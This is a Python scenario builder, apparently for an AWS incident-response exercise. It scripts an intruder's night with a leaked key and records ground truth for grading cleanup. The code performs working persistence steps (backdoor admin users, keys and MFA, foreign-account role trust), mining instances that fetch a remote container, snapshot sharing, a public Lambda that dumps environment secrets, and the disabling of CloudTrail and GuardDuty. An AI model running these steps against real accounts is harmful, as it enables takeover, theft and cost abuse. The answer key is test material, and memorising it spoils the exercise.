"""One night: a leaked key, and what its finder did with it in six hours.

Every act is a real call with the intruder's real credentials. The ledger notes
what he made ("created") or changed ("tampered") at the moment it succeeds, so
the truth cannot claim what did not happen.

priority in the truth: 1 = gives access or spends money now, 2 = a way back in
or data exposed, 3 = left over, harmless once the rest is gone.
"""

from __future__ import annotations

import base64
import datetime as dt
from typing import Any

from .. import bill_fixes
from . import names
from .company import Company, Days, allow, aws_policy, document, snapshots_of, trust, volumes_of
from .names import FOREIGN_ACCOUNT, LEAKED_USER, NEW_ADMIN, UNUSED_REGIONS
from .world import Actor, Keys, World, credential, package, saml_metadata, self_signed, ssh_key

LENGTH = dt.timedelta(hours=7)
TWELVE_HOURS = 43200
QUARANTINE = "AWSCompromisedKeyQuarantineV3"

USER_DATA = """#!/bin/bash
set -e
dnf -y install docker
systemctl enable --now docker
docker run -d --restart always --gpus all --name render images.render.example/node:4.2
"""


def build(lab: Any, now: dt.datetime) -> dict:
    """Fill the account and return the ground truth."""
    world = World.of(lab)
    start = now - LENGTH
    world.root_facts(world.account, mfa=True, access_keys=[])
    world.owner_facts(world.account, names.ACCOUNT_NAME, names.CONTACT, names.ALTERNATES)
    bill_fixes.seed(world.account, start, names.PLANTED_COSTS)
    company = Company(world, now)
    company.plan()
    Days(company, start).plan()
    Night(company, start).plan()
    world.run()
    return truth(company, start)


def truth(company: Company, start: dt.datetime) -> dict:
    world, book = company.world, company.book
    caller = company.admin.keys
    factor = world.arn("mfa", names.ADMIN.replace(".", "-"))
    return {
        "scenario": "night",
        "account": world.account,
        "caller": {"name": names.ADMIN, "access_key_id": caller.id, "secret_access_key": caller.secret,
                   "arn": world.arn("user", names.ADMIN), "mfa_serial": factor, "mfa_seed": world.seeds[factor]},
        "breakglass_role": world.arn("role", "emergency-access"),
        "since": start.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "leaked_key": company.actors[LEAKED_USER].keys.id,
        "leaked_user": LEAKED_USER,
        "home_regions": list(names.HOME_REGIONS),
        "unused_regions": list(UNUSED_REGIONS),
        "foreign_account": FOREIGN_ACCOUNT,
        "owner_credentials": book.owner_credentials,
        "intruder_credentials": book.intruder_credentials,
        "planted": book.planted,
        "owner_resources": book.owner_resources(),
        "touched": book.touched,
        "quarantine": {"user": LEAKED_USER, "policy": aws_policy(QUARANTINE)},
        "vanished": [{"kind": "iam.user", "region": "global", "id": names.SHORT_LIVED_USER}],
        "skipped": world.skipped,
    }


class Night:
    """The intruder. Each method is one act; plan() is the order of the night."""

    def __init__(self, company: Company, start: dt.datetime):
        self.company, self.world, self.book, self.start = company, company.world, company.book, start
        self.actors: dict[str, Actor] = {}

    def plan(self) -> None:
        acts = (
            (0, self.arrive), (3, self.reconnoitre), (11, self.take_sessions), (14, self.new_admin), (21, self.second_factor),
            (26, self.second_key), (31, self.inline_grants), (36, self.set_password), (41, self.open_trust), (46, self.new_role),
            (56, self.assume_owner_role), (66, self.come_from_abroad), (78, self.short_lived_user), (92, self.quarantine),
            (97, self.denied), (118, self.new_default_version), (126, self.join_administrators), (138, self.odd_credentials),
            (152, self.new_providers), (182, self.spend, UNUSED_REGIONS[0]), (190, self.spend, UNUSED_REGIONS[1]),
            (197, self.spend, UNUSED_REGIONS[2]), (214, self.open_home_group), (231, self.share_disks), (252, self.change_functions),
            (281, self.blind), (322, self.read_buckets), (381, self.chain),
        )
        for minute, act, *args in acts:
            self.world.plan(self.start + dt.timedelta(minutes=minute), act, *args)

    def note(self, name: str, kind: str, actor_or_keys: Any, principal: str, why: str, **more: Any) -> None:
        keys = actor_or_keys.keys if isinstance(actor_or_keys, Actor) else actor_or_keys
        self.book.intruder_credentials.append(credential(name, kind, keys, principal, why, **more))

    # ---- the first hour: the leaked key ----

    def arrive(self) -> None:
        keys = self.company.actors[LEAKED_USER].keys
        self.leaked = self.world.actor(keys, names.INTRUDER_IP, names.AGENT_OLD_CLI, (1, 4))
        self.leaked.sts.get_caller_identity()
        self.note("svc-deploy", "access-key", keys, self.world.arn("user", LEAKED_USER), "the leaked key")
        for kind, name, why in (("iam.user", LEAKED_USER, "its key leaked"), ("iam.access-key", keys.id, "leaked, still used by the owner")):
            self.book.touch(kind, "global", name, why)

    def reconnoitre(self) -> None:
        iam = self.leaked.iam
        iam.list_users()
        iam.list_attached_user_policies(UserName=LEAKED_USER)
        iam.list_groups_for_user(UserName=LEAKED_USER)
        iam.get_account_summary()
        iam.get_account_authorization_details(Filter=["User", "Role", "Group", "LocalManagedPolicy"])
        self.leaked.at("s3").list_buckets()
        self.leaked.at("ec2").describe_regions()
        for region in names.RECON_REGIONS:
            self.leaked.at("ec2", region).describe_instances()
        self.leaked.at("lambda", "eu-west-1").list_functions()
        self.leaked.at("lambda", "us-east-1").list_functions()
        self.leaked.at("organizations").attempt("describe_organization")
        self.leaked.at("secretsmanager", "eu-west-1").attempt("list_secrets")
        self.leaked.at("service-quotas", UNUSED_REGIONS[0]).attempt("list_service_quotas", ServiceCode="ec2")

    def take_sessions(self) -> None:
        """Sessions of the user outlive the key that made them."""
        made = self.leaked.sts.get_session_token(DurationSeconds=TWELVE_HOURS)
        self.actors["session"] = self.leaked.wearing(made)
        self.actors["session"].sts.get_caller_identity()
        self.note("svc-deploy session", "session-token", Keys.of(made["Credentials"]), self.world.arn("user", LEAKED_USER),
                  "GetSessionToken with the leaked key")
        made = self.leaked.sts.get_federation_token(Name="deploy-console", DurationSeconds=2 * TWELVE_HOURS, Policy=document(allow("*")))
        self.actors["federated"] = self.leaked.wearing(made)
        self.actors["federated"].at("ec2", "eu-west-1").describe_instances()
        self.note("deploy-console", "federation-token", Keys.of(made["Credentials"]), self.world.arn("user", LEAKED_USER),
                  "GetFederationToken with the leaked key", federated=made["FederatedUser"]["Arn"])

    def new_admin(self) -> None:
        iam, plant, password = self.leaked.iam, self.book.plant, self.world.password()
        iam.create_user(UserName=NEW_ADMIN, Tags=[{"Key": "team", "Value": "staff"}])
        plant("iam.user", "global", NEW_ADMIN, "A1", "new user with AdministratorAccess", 1)
        iam.attach_user_policy(UserName=NEW_ADMIN, PolicyArn=aws_policy("AdministratorAccess"))
        iam.create_login_profile(UserName=NEW_ADMIN, Password=password, PasswordResetRequired=False)
        plant("iam.login-profile", "global", NEW_ADMIN, "A1", "password of the new user", 1)
        keys = Keys.of(iam.create_access_key(UserName=NEW_ADMIN)["AccessKey"])
        plant("iam.access-key", "global", keys.id, "A1", f"key of {NEW_ADMIN}", 1)
        principal = self.world.arn("user", NEW_ADMIN)
        self.note(NEW_ADMIN, "access-key", keys, principal, "key of the new user")
        self.note(NEW_ADMIN, "login-profile", None, principal, "password of the new user", password=password)
        self.admin = self.world.actor(keys, names.INTRUDER_SECOND_IP, names.AGENT_BOTO, (1, 4))
        self.admin.sts.get_caller_identity()

    def second_factor(self) -> None:
        """His own second factor: sessions with it pass conditions on multi-factor."""
        serial = self.world.enrol(self.admin, NEW_ADMIN, NEW_ADMIN.replace(".", "-"))
        self.book.plant("iam.mfa-device", "global", serial, "A4", f"device of {NEW_ADMIN}", 3)
        sts = self.admin.sts
        made = sts.get_session_token(DurationSeconds=TWELVE_HOURS, SerialNumber=serial, TokenCode=self.world.code(serial))
        self.note(f"{NEW_ADMIN} session", "session-token", Keys.of(made["Credentials"]), self.world.arn("user", NEW_ADMIN),
                  "GetSessionToken of the new user, with his second factor")

    def second_key(self) -> None:
        keys = Keys.of(self.admin.iam.create_access_key(UserName="svc-reporting")["AccessKey"])
        self.book.plant("iam.access-key", "global", keys.id, "A2", "second key of svc-reporting", 1)
        self.book.touch("iam.user", "global", "svc-reporting", "got a second key and a service credential; its first key is the owner's")
        self.note("svc-reporting second key", "access-key", keys, self.world.arn("user", "svc-reporting"), "a second key on another user")
        self.actors["reporting"] = self.world.actor(keys, names.INTRUDER_THIRD_IP, names.AGENT_S3_BROWSER, (1, 4))
        self.actors["reporting"].sts.get_caller_identity()

    def inline_grants(self) -> None:
        iam, tamper, everything = self.admin.iam, self.book.tamper, document(allow("*"))
        iam.put_user_policy(UserName="james.okafor", PolicyName="reporting-extras", PolicyDocument=everything)
        tamper("iam.user", "global", "james.okafor", "A5", "inline policy reporting-extras", 1)
        iam.put_group_policy(GroupName="billing-readers", PolicyName="billing-detail", PolicyDocument=document(allow(["iam:*", "sts:AssumeRole"])))
        tamper("iam.group", "global", "billing-readers", "A5", "inline policy billing-detail", 2)
        iam.put_role_policy(RoleName="edge-exec", PolicyName="edge-exec-extended", PolicyDocument=document(allow(["iam:*", "lambda:*"])))
        tamper("iam.role", "global", "edge-exec", "A5", "inline policy edge-exec-extended", 2)

    def set_password(self) -> None:
        password = self.world.password()
        self.admin.iam.create_login_profile(UserName="svc-backup", Password=password, PasswordResetRequired=False)
        self.book.plant("iam.login-profile", "global", "svc-backup", "A3", "password of an existing service user", 1)
        self.note("svc-backup", "login-profile", None, self.world.arn("user", "svc-backup"), "password set on a service user", password=password)

    # ---- roles ----

    def open_trust(self) -> None:
        iam = self.admin.iam
        iam.get_role(RoleName="data-pipeline")
        both = [f"arn:aws:iam::{self.world.account}:root", f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"]
        iam.update_assume_role_policy(RoleName="data-pipeline", PolicyDocument=document(trust({"AWS": both})))
        self.book.tamper("iam.role", "global", "data-pipeline", "A7", f"trust opened to {FOREIGN_ACCOUNT}", 1)

    def new_role(self) -> None:
        iam = self.admin.iam
        iam.create_role(RoleName=names.NEW_ROLE, Description="Access for platform support", MaxSessionDuration=TWELVE_HOURS,
                        AssumeRolePolicyDocument=document(trust({"AWS": f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"})),
                        Tags=[{"Key": "owner", "Value": "platform"}])
        iam.attach_role_policy(RoleName=names.NEW_ROLE, PolicyArn=aws_policy("AdministratorAccess"))
        self.book.plant("iam.role", "global", names.NEW_ROLE, "A7", f"new role that trusts {FOREIGN_ACCOUNT}, with AdministratorAccess", 1)

    def assume(self, who: Actor, role: str, session: str, why: str, seconds: int = TWELVE_HOURS) -> Actor:
        arn = self.world.arn("role", role)
        made = who.sts.assume_role(RoleArn=arn, RoleSessionName=session, DurationSeconds=seconds)
        self.note(f"{role}/{session}", "assumed-role", Keys.of(made["Credentials"]), arn, why)
        worn = who.wearing(made)
        worn.sts.get_caller_identity()
        return worn

    def assume_owner_role(self) -> None:
        worn = self.assume(self.admin, "warehouse-export", "export-0419", "the new user in a role of the owner")
        worn.at("s3", "eu-west-1").attempt("list_objects_v2", Bucket="tidemark-invoices")
        self.book.touch("iam.role", "global", "warehouse-export", "the intruder holds a session of it")

    def come_from_abroad(self) -> None:
        keys = self.world.foreign_user(FOREIGN_ACCOUNT, names.FOREIGN_USER)
        abroad = self.world.actor(keys, names.INTRUDER_THIRD_IP, names.AGENT_BOTO, (1, 4))
        self.actors["pipeline"] = self.assume(abroad, "data-pipeline", "etl-nightly", "the foreign account through the opened trust")
        self.actors["support"] = self.assume(abroad, names.NEW_ROLE, "support-eu", "the foreign account through the new role")
        self.actors["support"].iam.list_users()

    def chain(self) -> None:
        """One role from another: such a session lasts an hour at most, so it is taken last."""
        worn = self.assume(self.actors["pipeline"], "analytics-batch", "batch-77", "role chaining from data-pipeline", 3600)
        worn.at("s3", "eu-central-1").attempt("list_buckets")
        self.book.touch("iam.role", "global", "analytics-batch", "the intruder holds a chained session of it")
        self.admin.iam.list_users()

    def short_lived_user(self) -> None:
        """Made and removed again: only the history knows of it."""
        iam, name = self.admin.iam, names.SHORT_LIVED_USER
        iam.create_user(UserName=name)
        key = iam.create_access_key(UserName=name)["AccessKey"]["AccessKeyId"]
        iam.delete_access_key(UserName=name, AccessKeyId=key)
        iam.delete_user(UserName=name)

    # ---- AWS notices ----

    def quarantine(self) -> None:
        """AWS attaches its policy in the name of the user itself, as CloudTrail records show."""
        aws = self.world.actor(self.leaked.keys, "AWS Internal", names.AGENT_AWS)
        aws.iam.attach_user_policy(UserName=LEAKED_USER, PolicyArn=aws_policy(QUARANTINE))

    def denied(self) -> None:
        """The key is of little use now; what was made with it goes on."""
        self.leaked.at("ec2").attempt("run_instances", ImageId="ami-0c1f3a8b7d2e45690", InstanceType="g4dn.xlarge", MinCount=1, MaxCount=1, DryRun=True)
        self.leaked.iam.attempt("create_access_key", UserName="james.okafor")
        self.leaked.iam.attempt("list_users")
        self.admin.iam.list_access_keys(UserName=LEAKED_USER)

    # ---- quieter ways back ----

    def new_default_version(self) -> None:
        arn = self.company.ids["tidemark-artifact-access"]
        iam = self.admin.iam
        iam.create_policy_version(PolicyArn=arn, PolicyDocument=document(allow("*")))
        iam.set_default_policy_version(PolicyArn=arn, VersionId="v2")
        self.book.tamper("iam.policy", "global", arn, "A5", "default version v2 allows everything (v1 was the owner's)", 1)

    def join_administrators(self) -> None:
        self.admin.iam.add_user_to_group(GroupName="administrators", UserName="svc-backup")
        self.book.tamper("iam.user", "global", "svc-backup", "A5", "group membership administrators", 1)
        self.book.touch("iam.group", "global", "administrators", "svc-backup was added")

    def odd_credentials(self) -> None:
        iam = self.admin.iam
        made = iam.optional("create_service_specific_credential", UserName="svc-reporting", ServiceName="bedrock.amazonaws.com")
        if made:
            found = made["ServiceSpecificCredential"]["ServiceSpecificCredentialId"]
            self.book.plant("iam.service-credential", "global", found, "A12", "Bedrock credential of svc-reporting", 1)
        made = iam.upload_ssh_public_key(UserName="tomas.novak", SSHPublicKeyBody=ssh_key("tomas@laptop"))
        self.book.plant("iam.ssh-key", "global", made["SSHPublicKey"]["SSHPublicKeyId"], "A12", "SSH key of tomas.novak", 2)
        self.book.touch("iam.user", "global", "tomas.novak", "got an SSH key")

    def new_providers(self) -> None:
        iam = self.admin.iam
        certificate, _ = self_signed("id.pipelines.example.net", self.world.clock.now)
        made = iam.create_saml_provider(Name=names.NEW_SAML, SAMLMetadataDocument=saml_metadata("https://id.pipelines.example.net/saml", certificate))
        self.book.plant("iam.saml-provider", "global", made["SAMLProviderArn"], "A8", "new identity provider", 2)
        made = iam.create_open_id_connect_provider(Url=names.NEW_OIDC_URL, ClientIDList=["sts.amazonaws.com"],
                                                   ThumbprintList=["9e99a48a9960b14926bb7f3b02e22da2b0ab7280"])
        self.book.plant("iam.oidc-provider", "global", made["OpenIDConnectProviderArn"], "A8", "new token provider", 2)

    # ---- spending ----

    def spend(self, region: str) -> None:
        """GPUs where nobody looks, protected against termination one by one, as the miners of late 2025 did."""
        ec2, plant = self.admin.at("ec2", region), self.book.plant
        plant("ec2.key-pair", region, ec2.create_key_pair(KeyName=names.NEW_KEY_PAIR)["KeyPairId"], "A17", "new key pair", 3)
        vpc = ec2.describe_vpcs(Filters=[{"Name": "is-default", "Values": ["true"]}])["Vpcs"][0]["VpcId"]
        group = ec2.create_security_group(GroupName=names.NEW_GROUP_NAME, Description="render nodes", VpcId=vpc)["GroupId"]
        ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[
            {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
        plant("ec2.security-group", region, group, "B1", "new group, open to all", 3)
        kind = "p3.2xlarge" if region == UNUSED_REGIONS[0] else "g4dn.12xlarge"
        wish = dict(ImageId="ami-0d5a7b1e93c46f208", InstanceType=kind, MinCount=2, MaxCount=2, KeyName=names.NEW_KEY_PAIR,
                    SecurityGroupIds=[group], UserData=base64.b64encode(USER_DATA.encode()).decode(),
                    TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": names.NEW_INSTANCE_NAME}]}])
        ec2.attempt("run_instances", **wish, DryRun=True)
        made = ec2.run_instances(**wish)
        for instance in (i["InstanceId"] for i in made["Instances"]):
            ec2.modify_instance_attribute(InstanceId=instance, DisableApiTermination={"Value": True})
            plant("ec2.instance", region, instance, "B1", f"{kind} with termination protection", 1)
            for volume in volumes_of(ec2, instance):
                plant("ec2.volume", region, volume, "B1", f"disk of {instance}", 3)

    # ---- home regions ----

    def open_home_group(self) -> None:
        group = self.company.ids["office/eu-west-1"]
        self.admin.at("ec2", "eu-west-1").authorize_security_group_ingress(GroupId=group, IpPermissions=[
            {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
        self.book.tamper("ec2.security-group", "eu-west-1", group, "A17", "rule tcp 22 from 0.0.0.0/0", 2)

    def share_disks(self) -> None:
        ec2 = self.admin.at("ec2", "eu-west-1")
        made = ec2.create_snapshot(VolumeId=self.company.ids["orders-db/disk"], Description="orders-db copy")["SnapshotId"]
        ec2.modify_snapshot_attribute(SnapshotId=made, Attribute="createVolumePermission", OperationType="add", UserIds=[FOREIGN_ACCOUNT])
        self.book.plant("ec2.snapshot", "eu-west-1", made, "C1", f"copy of the owner's data shared with {FOREIGN_ACCOUNT}", 1)
        old = self.company.ids["orders-db weekly"]
        ec2.modify_snapshot_attribute(SnapshotId=old, Attribute="createVolumePermission", OperationType="add", UserIds=[FOREIGN_ACCOUNT])
        self.book.tamper("ec2.snapshot", "eu-west-1", old, "C1", f"shared with {FOREIGN_ACCOUNT}", 1)
        image = self.company.ids["image"]
        ec2.modify_image_attribute(ImageId=image, LaunchPermission={"Add": [{"Group": "all"}]})
        self.book.tamper("ec2.image", "eu-west-1", image, "C2", "made public", 1)
        own = ec2.create_image(InstanceId=self.company.ids["web-2"], Name="web-golden-2026-11", NoReboot=True)["ImageId"]
        ec2.modify_image_attribute(ImageId=own, LaunchPermission={"Add": [{"UserId": FOREIGN_ACCOUNT}]})
        self.book.plant("ec2.image", "eu-west-1", own, "C2", f"image shared with {FOREIGN_ACCOUNT}", 2)
        for snapshot in snapshots_of(ec2, own):
            self.book.plant("ec2.snapshot", "eu-west-1", snapshot, "C2", f"snapshot of {own}", 3)

    def change_functions(self) -> None:
        functions, region = self.admin.at("lambda", "eu-west-1"), "eu-west-1"
        source = package("import os\n\ndef handler(event, context):\n    return dict(os.environ)\n")
        functions.update_function_code(FunctionName="orders-worker", ZipFile=source)
        functions.publish_version(FunctionName="orders-worker")
        functions.add_permission(FunctionName="orders-worker", StatementId="public-invoke", Action="lambda:InvokeFunction", Principal="*")
        self.book.tamper("lambda.function", region, "orders-worker", "A14", "code replaced, version published, layer added, invocation by anybody", 1)
        made = functions.publish_layer_version(LayerName=names.NEW_LAYER, CompatibleRuntimes=["python3.12"],
                                               Content={"ZipFile": package("VERSION = 3\n", "python/support.py")})
        functions.add_layer_version_permission(LayerName=names.NEW_LAYER, VersionNumber=made["Version"], StatementId="all",
                                               Action="lambda:GetLayerVersion", Principal="*")
        self.book.plant("lambda.layer", region, f"{names.NEW_LAYER}:{made['Version']}", "A14", "new public layer", 2)
        functions.create_function(FunctionName=names.NEW_FUNCTION, Runtime="python3.12", Role=self.world.arn("role", "orders-exec"),
                                  Handler="index.handler", Code={"ZipFile": source}, Timeout=60, MemorySize=128)
        # removing the layer later does not remove it from these two: functions keep their copy
        for function in ("orders-worker", names.NEW_FUNCTION):
            functions.optional("update_function_configuration", FunctionName=function, Layers=[made["LayerVersionArn"]])
        functions.create_function_url_config(FunctionName=names.NEW_FUNCTION, AuthType="NONE")
        functions.add_permission(FunctionName=names.NEW_FUNCTION, StatementId="url", Action="lambda:InvokeFunctionUrl",
                                 Principal="*", FunctionUrlAuthType="NONE")
        self.book.plant("lambda.function", region, names.NEW_FUNCTION, "A14", "new function with a public address", 1)

    def blind(self) -> None:
        trail, region = self.company.ids["tidemark-audit-eu"], "eu-west-1"
        self.admin.at("cloudtrail", region).describe_trails()
        self.admin.at("cloudtrail", region).stop_logging(Name="tidemark-audit-eu")
        self.book.tamper("cloudtrail.trail", region, trail, "D1", "logging stopped", 1)
        detector = self.company.ids["detector/eu-central-1"]
        self.admin.at("guardduty", "eu-central-1").update_detector(DetectorId=detector, Enable=False)
        self.book.tamper("guardduty.detector", "eu-central-1", detector, "D2", "disabled", 1)

    def read_buckets(self) -> None:
        s3 = self.actors["reporting"].at("s3", "eu-central-1")
        s3.list_buckets()
        s3.list_objects_v2(Bucket="tidemark-data-exports")
        s3.get_object(Bucket="tidemark-data-exports", Key="daily/2026-10-31.csv")
